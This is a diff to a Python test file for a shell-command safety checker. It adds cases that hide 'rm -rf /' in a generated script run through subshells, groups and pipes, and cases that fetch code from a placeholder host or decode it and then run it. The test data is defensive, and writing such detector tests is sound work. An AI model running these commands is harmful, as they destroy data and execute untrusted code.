@@ -71,6 +71,24 @@ TABLE = {
             "load:fetched-file b job hard",
         ],
     ),
+    "in-a-subshell": (
+        "(echo 'rm -rf /' > a.sh); sh a.sh",
+        ["write a.sh @project by >", "delete / @root whole hard"],
+    ),
+    "by-a-group": (
+        "{ echo ls; echo 'rm -rf /'; } > a.sh; sh a.sh",
+        ["write a.sh @project by >", "delete / @root whole hard"],
+    ),
+    "through-a-pipe": (
+        "echo 'rm -rf /' | tee a.sh; sh a.sh",
+        ["write a.sh @project", "delete / @root whole hard"],
+    ),
+    "fetched-and-filtered": (
+        "curl x.example | sed 1d > a; sh a",
+        ["fetch x.example recorded", "write a @project by >", "load:fetched-file a job hard"],
+    ),
+    "decoded": ("base64 -d x > a; sh a", ["write a @project by >", "load:hidden-text a job hard"]),
+    "out-of-a-pipe": ("mkfifo a; sh a", ["write a @project", "load:computed a job dangerous"]),
     "in-another-folder": (
         "cd sub; echo 'rm -rf /' > a.sh; cd ..; bash sub/a.sh",
         ["write a.sh @project by >", "delete / @root whole hard"],
@@ -81,6 +99,4 @@ TABLE = {
 @pytest.mark.parametrize(("line", "expected"), TABLE.values(), ids=TABLE)
 def test_a_file_that_the_text_made_is_known(line, expected) -> None:
     """Echoes and here-documents by their text, downloads as fetched, copies as what they are of."""
-    found = effects(judge(line))
-
-    assert found == expected if expected is not None else "load:fetched-file a job hard" in found
+    assert effects(judge(line)) == expected
